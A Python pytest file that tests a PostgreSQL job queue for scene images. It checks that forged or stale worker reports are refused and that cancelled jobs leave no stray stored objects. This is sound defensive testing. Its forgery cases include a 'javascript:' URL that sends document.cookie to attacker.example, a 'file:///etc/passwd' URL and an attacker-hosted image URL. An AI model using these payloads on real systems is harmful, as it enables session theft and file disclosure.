"""The job queue against a worker login that lies: a completion or failure is accepted only from
the worker name and login (session_user) that claimed the job, while its lease lasts (else
SIJ04), and only with facts this product produces (else 22023) — and a refusal changes no row,
job or masterJSON. NOTIFY payloads name no project. A cancelled process_scene_image_jobs leaves
no object without a row; a terminated one leaves only orphans the sweep removes.

Logins are made here (CREATE ROLE ... LOGIN IN ROLE scene_images_worker, cluster-wide, so named
uniquely) and dropped after. Every server is on 127.0.0.1; nothing here waits on a sleep: the
tests wait for an event (a request arrived, a lock wait began, an object appeared).
"""

from __future__ import annotations

import logging
import threading
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import psycopg
import pytest

pytest.register_assert_rewrite("security_fixtures")  # its asserts are imported before the plugin loads

from job_workers import wait_until
from psycopg.rows import dict_row
from psycopg.types.json import Jsonb
from security_fixtures import DictConnection, FetchSettings, StorageRoot, primary
from sources import ImageSourceServer, SourceHandler

from scene_images.worker import Worker
from scene_images_core import jobs, pipeline
from scene_images_core.backends import make_backend
from scene_images_core.paths import object_path

pytest_plugins = ["client_fixtures", "security_fixtures", "job_workers"]
pytestmark = pytest.mark.usefixtures("empty_job_queue")

SHA = "c" * 64
STAMP = datetime(2026, 11, 25, 12, 0, 0, 123456, tzinfo=UTC)


# --- logins and jobs -------------------------------------------------------------------------


@dataclass(frozen=True)
class Logins:
    """Two LOGIN roles in scene_images_worker; `connect(login)` opens an autocommit session."""

    a: str
    b: str
    conninfo: str

    def connect(self, login: str) -> DictConnection:
        return psycopg.connect(self.conninfo, user=login, autocommit=True, row_factory=dict_row)


@pytest.fixture
def logins(db: DictConnection, conninfo: str) -> Iterator[Logins]:
    suffix = uuid.uuid4().hex[:10]
    names = (f"scene_images_test_worker_a_{suffix}", f"scene_images_test_worker_b_{suffix}")
    for name in names:
        db.execute(f"CREATE ROLE {name} LOGIN IN ROLE scene_images_worker")
    try:
        yield Logins(*names, conninfo)
    finally:
        for name in names:
            db.execute("SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = %s", (name,))
            db.execute(f"DROP ROLE IF EXISTS {name}")


def enqueue_one(db: DictConnection, project_id: uuid.UUID, scene_id: str, url: str = "http://127.0.0.1:9/x.png") -> Any:
    row = db.execute(
        "SELECT id FROM enqueue_scene_image(project_id => %s, scene_id => %s, source_url => %s)",
        (project_id, scene_id, url),
    ).fetchone()
    assert row is not None
    return row["id"]


def claim(conn: DictConnection, worker: str, lease: str = "5 minutes") -> dict[str, Any]:
    row = conn.execute(
        "SELECT * FROM claim_scene_image_jobs(worker => %s, max_jobs => 1, lease => %s)", (worker, lease)
    ).fetchone()
    assert row is not None
    return dict(row)


def facts(project_id: str | uuid.UUID, scene_id: str, root: StorageRoot, *, sha: str = SHA, ext: str = "png",
          content_type: str = "image/png") -> dict[str, Any]:
    """True facts for a completion: the path pipeline.store makes and the backend's URL for it."""
    path = object_path(project_id, scene_id, STAMP, sha, ext)
    return {"storage_path": path, "storage_url": f"{root.public_base_url}/{path}", "file_size": 90,
            "content_type": content_type, "sha256": sha, "width": 10, "height": 8}


COMPLETE = (
    "SELECT * FROM complete_scene_image_job(job_id => %(job_id)s, worker => %(worker)s, storage_path => %(storage_path)s,"
    " storage_url => %(storage_url)s, file_size => %(file_size)s, content_type => %(content_type)s,"
    " sha256 => %(sha256)s, width => %(width)s, height => %(height)s, source => %(source)s)"
)
FAIL = "SELECT * FROM fail_scene_image_job(job_id => %s, worker => %s, sqlstate => %s, message => %s)"


def complete(conn: DictConnection, job_id: object, worker: str, **given: Any) -> dict[str, Any]:
    row = conn.execute(COMPLETE, {"job_id": job_id, "worker": worker, "source": Jsonb({}), **given}).fetchone()
    assert row is not None
    return dict(row)


def state(db: DictConnection, project_id: uuid.UUID, job_id: object) -> tuple[Any, ...]:
    """Everything a forged report could change: the project's rows, the job, masterJSON."""
    rows = db.execute("SELECT * FROM scene_images WHERE project_id = %s ORDER BY id", (project_id,)).fetchall()
    job = db.execute("SELECT * FROM scene_images_internal.scene_image_jobs WHERE id = %s", (job_id,)).fetchone()
    master = db.execute("SELECT master_json FROM projects WHERE id = %s", (project_id,)).fetchone()
    assert job is not None and master is not None
    return rows, job, master["master_json"]


# --- forged reports ----------------------------------------------------------------------------


@dataclass(frozen=True)
class Forgery:
    """`prepare(db, conn_a, job_id)` brings the job into the state the forger meets; the forger
    (login a or b, as `worker`) then completes with `change(true facts)`."""

    sqlstate: str
    login: str = "a"
    worker: str = "w"
    prepare: Callable[[DictConnection, DictConnection, object], None] = lambda db, a, job_id: None
    change: Callable[[dict[str, Any]], dict[str, Any]] = lambda f: f
    claimed: bool = True


def _failed(db: DictConnection, a: DictConnection, job_id: object) -> None:
    a.execute(FAIL, (job_id, "w", "SII01", "not an image"))


def _expired(db: DictConnection, a: DictConnection, job_id: object) -> None:
    db.execute("UPDATE scene_images_internal.scene_image_jobs SET lease_expires_at = now() - interval '1 second'"
               " WHERE id = %s", (job_id,))


def _other_project(f: dict[str, Any]) -> dict[str, Any]:
    path = object_path(uuid.uuid4(), "scene_01", STAMP, SHA, "png")
    return {**f, "storage_path": path, "storage_url": f["storage_url"].split("/projects/")[0] + "/" + path}


FORGERIES = {
    "never claimed": Forgery("SIJ04", claimed=False),
    "already failed": Forgery("SIJ04", prepare=_failed),
    "held by another worker": Forgery("SIJ04", worker="w-other"),
    "same worker name, another login": Forgery("SIJ04", login="b"),
    "lease expired": Forgery("SIJ04", prepare=_expired),
    "storage_path of another project": Forgery("22023", change=_other_project),
    "storage_url file:///etc/passwd": Forgery("22023", change=lambda f: {**f, "storage_url": "file:///etc/passwd"}),
    "storage_url javascript:": Forgery("22023", change=lambda f: {
        **f, "storage_url": "javascript:fetch('//attacker.example/'+document.cookie)"}),
    "storage_url on an outside host": Forgery("22023", change=lambda f: {
        **f, "storage_url": "https://images.attacker.example/" + f["storage_path"]}),
    "image/svg+xml": Forgery("22023", change=lambda f: {**f, "content_type": "image/svg+xml"}),
    "image/svg+xml with an .svg path": Forgery("22023", change=lambda f: {
        **f, "content_type": "image/svg+xml", "storage_path": f["storage_path"].replace(".png", ".svg"),
        "storage_url": f["storage_url"].replace(".png", ".svg")}),
}


@pytest.mark.parametrize("case", list(FORGERIES), ids=list(FORGERIES))
def test_forged_completion_is_refused_and_changes_nothing(
    db: DictConnection, project_id: uuid.UUID, storage: StorageRoot, logins: Logins, case: str
) -> None:
    forgery = FORGERIES[case]
    with logins.connect(logins.a) as a, logins.connect(logins.b) as b:
        # The scene has a current image already, so masterJSON has something to lose.
        enqueue_one(db, project_id, "scene_01")
        first = claim(a, "w")
        complete(a, first["id"], "w", **facts(project_id, "scene_01", storage, sha="a" * 64))
        job_id = enqueue_one(db, project_id, "scene_01")
        if forgery.claimed:
            assert claim(a, "w")["id"] == job_id
        forgery.prepare(db, a, job_id)
        before = state(db, project_id, job_id)
        forger = {"a": a, "b": b}[forgery.login]

        with pytest.raises(psycopg.Error) as caught:
            complete(forger, job_id, forgery.worker, **forgery.change(facts(project_id, "scene_01", storage)))
        assert caught.value.sqlstate == forgery.sqlstate, primary(caught.value)
        assert state(db, project_id, job_id) == before
        if forgery.sqlstate == "SIJ04":
            with pytest.raises(psycopg.Error) as caught:
                forger.execute(FAIL, (job_id, forgery.worker, "SII01", "forged failure"))
            assert caught.value.sqlstate == "SIJ04", primary(caught.value)
            assert state(db, project_id, job_id) == before
    assert db.execute("SELECT master_json #>> '{scenes,scene_01,scene_start_frame}' AS url FROM projects WHERE id = %s",
                      (project_id,)).fetchone()["url"] == facts(project_id, "scene_01", storage, sha="a" * 64)["storage_url"]


def test_only_the_holder_completes_and_completing_again_returns_the_same_row(
    db: DictConnection, project_id: uuid.UUID, storage: StorageRoot, logins: Logins
) -> None:
    job_id = enqueue_one(db, project_id, "scene_01")
    true = facts(project_id, "scene_01", storage)
    with logins.connect(logins.a) as a, logins.connect(logins.b) as b:
        job = claim(a, "w")
        assert (job["id"], job["locked_by"], job["locked_by_login"]) == (job_id, "w", logins.a)
        row = complete(a, job_id, "w", **true)
        assert (row["storage_path"], row["storage_url"], row["content_type"]) == (
            true["storage_path"], true["storage_url"], "image/png")
        again = complete(a, job_id, "w", **facts(project_id, "scene_01", storage, sha="d" * 64))
        assert again == row  # the holder's repeated report: the same row; its second object is surplus
        for forger, worker in ((b, "w"), (a, "w2")):
            with pytest.raises(psycopg.Error) as caught:
                complete(forger, job_id, worker, **true)
            assert caught.value.sqlstate == "SIJ04"
    rows = db.execute("SELECT id FROM scene_images WHERE project_id = %s", (project_id,)).fetchall()
    assert [r["id"] for r in rows] == [row["id"]]


# --- the URL the database derives is the backend's ---------------------------------------------

BACKEND_SETTINGS = {
    "file": ("file", {"root": "/srv/images", "public_base_url": "https://img.example.com"}),
    "file, trailing slashes and blanks": ("file", {"root": "/srv/images", "public_base_url": " https://img.example.com/a// "}),
    "file, ending in letters like escapes": ("file", {"root": "/srv", "public_base_url": "\u3000\thttps://v.example.com/dev\x0b\x1f\xa0"}),
    "s3, path-style default": ("s3", {"endpoint_url": "http://127.0.0.1:9000/", "region": "us-east-1",
                                      "bucket": "scene-images", "access_key_id": "k", "secret_access_key": "s"}),
    "s3, bucket to quote": ("s3", {"endpoint_url": "http://127.0.0.1:9000", "region": "eu-west-1",
                                   "bucket": "my bucket+1 vftnr", "access_key_id": "k", "secret_access_key": "s"}),
    "s3, public_base_url": ("s3", {"endpoint_url": "http://127.0.0.1:9000", "region": "us-east-1", "bucket": "b",
                                   "access_key_id": "k", "secret_access_key": "s",
                                   "public_base_url": "https://cdn.example.com/images/"}),
    "supabase, url": ("supabase", {"url": "https://abcd.supabase.co/", "service_key": "k", "bucket": "scene-images"}),
    "supabase, api_url": ("supabase", {"url": "https://abcd.supabase.co", "api_url": "http://127.0.0.1:5000/",
                                       "service_key": "k", "bucket": "scene images"}),
}


@pytest.mark.parametrize("name", list(BACKEND_SETTINGS), ids=list(BACKEND_SETTINGS))
def test_storage_object_url_is_what_the_python_backend_derives(
    db: DictConnection, restore_settings: None, name: str
) -> None:
    kind, settings = BACKEND_SETTINGS[name]
    db.execute("UPDATE scene_images_internal.settings SET value = %s WHERE name = 'storage'",
               (Jsonb({"backend": kind, "settings": settings}),))
    backend = make_backend(kind, settings)
    for path in (object_path(uuid.uuid4(), "scene.01_a-b", STAMP, SHA, "webp"), "projects/p/scenes/a=b+c.png"):
        derived = db.execute("SELECT scene_images_internal.storage_object_url(%s) AS url", (path,)).fetchone()["url"]
        assert derived == backend.public_url(path)


# --- NOTIFY ------------------------------------------------------------------------------------


def test_listeners_get_notifications_with_an_empty_payload(
    db: DictConnection, project_id: uuid.UUID, logins: Logins
) -> None:
    with logins.connect(logins.a) as listener:
        listener.execute("LISTEN scene_image_jobs")
        job_id = enqueue_one(db, project_id, "scene_01")
        [enqueued] = list(listener.notifies(timeout=10, stop_after=1))
        claim(listener, "w")
        listener.execute(FAIL, (job_id, "w", "SII01", "not an image"))
        db.execute("SELECT retry_scene_image_job(%s)", (job_id,))
        [retried] = list(listener.notifies(timeout=10, stop_after=1))
    for note in (enqueued, retried):
        assert (note.channel, note.payload) == ("scene_image_jobs", "")
        assert str(project_id) not in note.payload


# --- stale reports from a worker -----------------------------------------------------------------


@pytest.mark.parametrize("route", ["/img.png", "/404"])
def test_worker_whose_lease_passed_on_logs_deletes_its_object_and_carries_on(
    db: DictConnection, conninfo: str, project_id: uuid.UUID, storage: StorageRoot,
    fetch_settings: FetchSettings, source: ImageSourceServer, route: str, caplog: pytest.LogCaptureFixture,
) -> None:
    job_id = enqueue_one(db, project_id, "scene_01", source.url(route))
    worker = Worker(conninfo, name="stale")
    held = claim(db, worker.name)  # this login (the test's), as the worker's sessions are
    _expired(db, db, job_id)
    taker = claim(db, "taker")
    assert (taker["id"], taker["attempts"]) == (job_id, 2)
    before = state(db, project_id, job_id)

    with caplog.at_level(logging.WARNING, logger="scene_images.worker"), \
            psycopg.connect(conninfo, autocommit=True, row_factory=dict_row) as conn:
        worker._run_job(conn, held)  # the attempt it made under its old lease, reported late

    assert source.paths() == [route]  # it did the work ...
    assert state(db, project_id, job_id) == before  # ... the database refused the report ...
    assert storage.objects() == []  # ... and the object it uploaded is gone
    assert worker.stats.counts == {"superseded": 1}
    assert "SIJ04" in caplog.text


def test_settle_deletes_the_object_of_a_refused_completion_and_fails_refused_facts() -> None:
    deleted: list[str] = []
    failed: list[tuple[Any, str | None]] = []

    class Backend:
        kind = "fake"

        def delete(self, path: str) -> None:
            deleted.append(path)

    def stored(job: str) -> jobs.Attempt:
        return jobs.Attempt({"id": job}, pipeline.StoredObject(f"{job}.png", f"http://x/{job}.png", 1, "image/png",
                                                               SHA, 1, 1, {}))

    def complete(attempt: jobs.Attempt) -> dict[str, Any]:
        job = attempt.job["id"]
        if job in ("stale", "forged"):
            raise jobs.ReportRefused("SIJ04" if job == "stale" else "22023", job)
        return {"storage_path": "other.png" if job == "dup" else f"{job}.png"}

    left = jobs.settle([stored("ok"), stored("stale"), stored("forged"), stored("dup")], Backend(),  # type: ignore[arg-type]
                       complete, lambda a: failed.append((a.job["id"], a.sqlstate)))
    assert left == []
    assert deleted == ["stale.png", "forged.png", "dup.png"]
    assert failed == [("forged", "22023")]  # a stale report is nobody's to fail; refused facts fail the job


# --- cancel and terminate process_scene_image_jobs ------------------------------------------------


@pytest.fixture
def stalling_source(source: ImageSourceServer) -> Iterator[tuple[ImageSourceServer, threading.Event]]:
    """`source` with /stall.png, which answers nothing until the test ends; the event is set
    when its request has arrived."""
    arrived, release = threading.Event(), threading.Event()

    def stall(handler: SourceHandler) -> None:
        arrived.set()
        release.wait(60)
        handler.close_connection = True

    source.routes["/stall.png"] = stall
    try:
        yield source, arrived
    finally:
        release.set()
        source.routes.pop("/stall.png", None)


def _referenced(db: DictConnection, root: StorageRoot) -> set[str]:
    objects = root.objects()
    rows = db.execute("SELECT storage_path FROM scene_images WHERE storage_path = ANY(%s)", (objects,)).fetchall()
    return {r["storage_path"] for r in rows}


def _kept_row(db: DictConnection, project_id: uuid.UUID, source: ImageSourceServer) -> list[str]:
    """One job stored by the in-database worker before the test: its object must stay."""
    enqueue_one(db, project_id, "kept", source.url("/img.jpg"))
    [job] = db.execute("SELECT status FROM process_scene_image_jobs(max_jobs => 10)").fetchall()
    assert job["status"] == "stored"
    return [r["storage_path"] for r in db.execute("SELECT storage_path FROM scene_images WHERE project_id = %s", (project_id,))]


FAST = ("/img.png", "/img.gif", "/img.webp")


def _process_in_background(conninfo: str, pool: ThreadPoolExecutor) -> tuple[int, Any, DictConnection]:
    conn = psycopg.connect(conninfo, autocommit=True, row_factory=dict_row)
    pid = conn.execute("SELECT pg_backend_pid() AS pid").fetchone()["pid"]
    call = pool.submit(lambda: conn.execute("SELECT * FROM process_scene_image_jobs(max_jobs => 10)").fetchall())
    return pid, call, conn


@pytest.mark.parametrize("how", ["pg_cancel_backend", "pg_terminate_backend"])
def test_process_stopped_mid_download_leaves_no_object_without_a_row(
    db: DictConnection, conninfo: str, project_id: uuid.UUID, storage: StorageRoot,
    fetch_settings: FetchSettings, stalling_source: tuple[ImageSourceServer, threading.Event], how: str,
) -> None:
    source, arrived = stalling_source
    fetch_settings(timeout_s=120)
    kept = _kept_row(db, project_id, source)
    for i, path in enumerate(FAST):
        enqueue_one(db, project_id, f"fast_{i}", source.url(path))
    enqueue_one(db, project_id, "stalled", source.url("/stall.png"))

    with ThreadPoolExecutor(1) as pool:
        pid, call, conn = _process_in_background(conninfo, pool)
        with conn:
            assert arrived.wait(30), "the stalling request never arrived"
            # The fast jobs finished: their objects are uploaded, their rows not yet written.
            wait_until(lambda: len(storage.objects()) == len(kept) + len(FAST), 30, "the fast jobs' uploads")
            assert db.execute(f"SELECT {how}(%s) AS ok", (pid,)).fetchone()["ok"]
            with pytest.raises(psycopg.Error) as caught:
                call.result(timeout=30)
    if how == "pg_terminate_backend":  # its transaction is rolled back once it has exited
        wait_until(lambda: db.execute("SELECT 1 FROM pg_stat_activity WHERE pid = %s", (pid,)).fetchone() is None,
                   30, "the terminated backend to exit")

    jobs_after = db.execute("SELECT scene_id, status, attempts FROM scene_images_internal.scene_image_jobs"
                            " WHERE project_id = %s AND scene_id <> 'kept' ORDER BY scene_id", (project_id,)).fetchall()
    assert [(j["status"], j["attempts"]) for j in jobs_after] == [("queued", 0)] * (len(FAST) + 1)  # the claim rolled back
    assert db.execute("SELECT storage_path FROM scene_images WHERE project_id = %s", (project_id,)).fetchall() == [
        {"storage_path": p} for p in kept]
    if how == "pg_cancel_backend":
        assert caught.value.sqlstate == "57014"
        assert storage.objects() == kept  # cleaned at once
    else:
        assert isinstance(caught.value, psycopg.OperationalError)
        orphans = sorted(set(storage.objects()) - _referenced(db, storage))
        assert len(orphans) == len(FAST)  # a terminated backend cannot clean up ...
        swept = db.execute("SELECT path FROM sweep_orphaned_scene_objects(older_than => '0 seconds', dry_run => false)"
                           " AS path").fetchall()
        assert sorted(r["path"] for r in swept) == orphans  # ... the sweep removes exactly its objects
        assert storage.objects() == kept


def test_process_cancelled_while_recording_deletes_the_objects_of_rows_it_had_made(
    db: DictConnection, conninfo: str, project_id: uuid.UUID, storage: StorageRoot,
    fetch_settings: FetchSettings, source: ImageSourceServer,
) -> None:
    kept = _kept_row(db, project_id, source)
    for i, path in enumerate(FAST):
        enqueue_one(db, project_id, f"fast_{i}", source.url(path))
    enqueue_one(db, project_id, "locked", source.url("/img.avif"))  # claimed last: due last

    with psycopg.connect(conninfo, row_factory=dict_row) as holder, ThreadPoolExecutor(1) as pool:
        # Another writer of the scene holds its write lock: the last completion waits for it,
        # after the others have made their rows.
        holder.execute("SELECT scene_images_internal.lock_scene(%s, 'locked')", (project_id,))
        pid, call, conn = _process_in_background(conninfo, pool)
        with conn:
            wait_until(lambda: db.execute(
                "SELECT 1 FROM pg_stat_activity WHERE pid = %s AND wait_event_type = 'Lock'", (pid,)
            ).fetchone(), 30, "the last completion to wait for the scene lock")
            assert len(storage.objects()) == len(kept) + len(FAST) + 1
            assert db.execute("SELECT pg_cancel_backend(%s) AS ok", (pid,)).fetchone()["ok"]
            with pytest.raises(psycopg.Error) as caught:
                call.result(timeout=30)
        holder.rollback()
    assert caught.value.sqlstate == "57014"
    assert storage.objects() == kept
    assert [r["storage_path"] for r in db.execute(
        "SELECT storage_path FROM scene_images WHERE project_id = %s", (project_id,))] == kept
